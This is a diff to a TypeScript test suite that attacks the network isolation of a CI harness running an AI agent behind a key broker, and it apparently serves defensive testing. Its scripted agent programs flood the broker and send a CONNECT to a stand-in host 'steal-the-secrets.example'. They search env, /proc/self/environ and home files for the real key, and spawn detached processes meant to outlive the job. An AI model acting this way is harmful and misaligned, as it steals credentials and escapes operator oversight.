@@ -3,6 +3,7 @@ import { chmodSync, writeFileSync } from 'node:fs';
 import { join } from 'node:path';
 import { expect } from 'vitest';
 import { KEY, MESSAGE, startProvider } from '../../support/broker.ts';
+import { programFolder, running } from '../../support/programs.ts';
 import type { Ended } from '../../support/runner.ts';
 import type { Attack, Place, Scene } from './scene.ts';
 
@@ -34,6 +35,8 @@ interface Network {
   script: string;
   settings?: string;
   handler?: Parameters<typeof startProvider>[0];
+  /** Programs that the machine does not have. */
+  without?: string[] | undefined;
   see(
     ended: Ended,
     place: Place,
@@ -41,17 +44,18 @@ interface Network {
   ): Promise<void> | void;
 }
 
-const network = ({ what, must, script, handler, see, ...more }: Network): Attack => ({
+const network = ({ what, must, script, handler, without, see, ...more }: Network): Attack => ({
   category: 'network',
   what,
   must,
   async see(scene) {
     const provider = await startProvider(handler);
     const place = await scene.place({ '.github/docket.yml': settings(more.settings) });
+    const PATH = without && programFolder(scene.dir(), { without });
     const ask = (text: string) =>
       place.ask('/docs explain the flag', {
         inputs: { 'agent-command': `'${process.execPath}' '${program(scene, text)}'` },
-        env: { ANTHROPIC_API_KEY: KEY, ANTHROPIC_BASE_URL: provider.url },
+        env: { ANTHROPIC_API_KEY: KEY, ANTHROPIC_BASE_URL: provider.url, ...(PATH && { PATH }) },
       });
     const ended = await ask(script);
     expect(place.published(ended)).not.toContain(KEY);
@@ -76,6 +80,12 @@ function isClosed({ log }: Ended): boolean {
   if (!closed) expect(log).toContain('The network is open');
   return closed;
 }
+
+const KINDS: [kind: string, without: string[] | undefined][] = [
+  ['as it is', undefined],
+  ['as another user', ['bwrap']],
+  ['without isolation', ['bwrap', 'sudo', 'setpriv']],
+];
 
 const ROWS: Network[] = [
   {
@@ -225,35 +235,56 @@ const ROWS: Network[] = [
       },
     }),
   ),
-  {
-    what: 'another process that knocks at the broker, and holds hundreds of connections open',
-    must: 'leaves no trace in the job, and the agent gets its answer',
-    script: `const { hostname, port } = new URL(base);
+  ...KINDS.slice(1).flatMap(([kind, without]): Network[] => [
+    {
+      what: `another process that knocks at the broker, and holds hundreds of connections open, ${kind}`,
+      must: 'leaves no trace in the job, and the agent gets its answer',
+      without,
+      script: `const { hostname, port } = new URL(base);
       const idle = Array.from({ length: 200 }, () => net.connect(Number(port), hostname).on('error', () => {}));
       const knock = net.connect(Number(port), hostname, () => knock.write('CONNECT steal-the-secrets.example:443 HTTP/1.1\\r\\nhost: x\\r\\n\\r\\n'));
       await new Promise((resolve) => knock.on('error', resolve).on('close', resolve).resume());
-      await new Promise((resolve) => setTimeout(resolve, 1500));
-      write(String((await ask()).status))`,
-    async see(ended, place) {
-      if (isClosed(ended)) return;
-      expect(await place.made('docs/answer.md')).toContain('200');
-      const [pull] = await place.repository.pulls();
-      expect(pull?.body).not.toContain('steal-the-secrets');
+      const first = (await ask()).status;
+      await Promise.all(idle.map((one) => one.closed || new Promise((resolve) => one.on('close', resolve).resume())));
+      write(first + ' and ' + (await ask()).status)`,
+      async see(ended, place) {
+        expect(isClosed(ended)).toBe(false);
+        expect(await place.made('docs/answer.md')).toContain('200 and 200');
+        const [pull] = await place.repository.pulls();
+        expect(pull?.body).not.toContain('steal-the-secrets');
+        expect(ended.summary).not.toContain('steal-the-secrets');
+      },
     },
-  },
-  {
-    what: 'an agent program that leaves a process behind, which goes on asking with its word',
-    must: 'gets no answer after the job has ended',
-    script: `const { spawn } = require('node:child_process');
-      const code = "setTimeout(async () => { for (let n = 0; n < 5; n += 1) { await fetch(process.argv[1], { method: 'POST', headers: { 'x-api-key': process.argv[2] }, body: '{}' }).catch(() => {}); } }, 3000)";
-      spawn(process.execPath, ['-e', code, base + '/v1/messages', word], { detached: true, stdio: 'ignore' }).unref();
-      write('left one behind')`,
-    async see(ended, _, { provider }) {
-      expect(ended.outputs.outcome).toBe('pull-request');
-      await new Promise((resolve) => setTimeout(resolve, 4_000));
-      expect(provider.seen).toEqual([]);
+    {
+      what: `an agent that looks for its key in its environment, its files, and its parents, ${kind}`,
+      must: 'has only the word that the broker takes',
+      without,
+      script: `await ask(); const { execSync } = require('node:child_process');
+      const found = execSync('env; cat /proc/self/environ; grep -ar sk-real "$HOME" "$TMPDIR" . || true', { encoding: 'latin1' });
+      write(/sk-real/.test(found) ? found : 'nothing found')`,
+      async see(ended, place, { provider }) {
+        expect(isClosed(ended)).toBe(false);
+        expect(await place.made('docs/answer.md')).toContain('nothing found');
+        expect(provider.seen[0]?.headers['x-api-key']).toBe(KEY);
+      },
     },
-  },
+  ]),
+  ...KINDS.map(
+    ([kind, without]): Network => ({
+      what: `an agent that survives its job, in a group of its own and without its environment, ${kind}`,
+      must: 'is ended with it',
+      without,
+      script: `const { spawn } = require('node:child_process'); await ask();
+      spawn(process.execPath, ['-e', 'setInterval(() => {}, 1000)', 'survivor ' + word], { detached: true, stdio: 'ignore', env: {} }).unref();
+      write(word)`,
+      async see(ended, place) {
+        expect(ended.outputs.outcome).toBe('pull-request');
+        const [word = 'none'] =
+          /docket-[\w-]{43}/.exec((await place.made('docs/answer.md')) ?? '') ?? [];
+        expect(running(`survivor ${word}`)).toEqual([]);
+      },
+    }),
+  ),
 ];
 
 export const NETWORK: Attack[] = ROWS.map(network);
